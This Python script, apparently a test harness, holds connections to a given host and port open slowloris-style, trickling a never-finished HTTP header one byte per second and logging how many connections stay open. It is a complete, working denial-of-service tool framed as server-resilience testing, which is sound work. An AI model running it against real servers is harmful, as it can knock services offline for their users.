#!/usr/bin/env python3
"""slow-clients.py HOST PORT N STATUS_FILE: opens N connections to HOST:PORT
and sends, on every one, a request line and then a header a byte a second,
never finishing it (a slowloris). Each second it writes to STATUS_FILE
"open K sent B": the connections still accepting bytes and the bytes sent
so far. Runs until it is killed. One process and no forks, so 200 slow
clients do not load the machine they are testing."""
import os
import socket
import sys
import time

host, port, n, status = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
conns = []
for _ in range(n):
    s = socket.create_connection((host, port))
    s.setblocking(False)
    conns.append(s)
payload = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
sent = 0
while True:
    open_now = 0
    for s in conns:
        if s is None:
            continue
        try:
            s.send(payload[sent:sent + 1])
            open_now += 1
        except OSError:
            pass
    sent += 1
    tmp = status + ".tmp"
    with open(tmp, "w") as f:
        f.write("open %d sent %d\n" % (open_now, sent))
    os.replace(tmp, status)
    time.sleep(1)
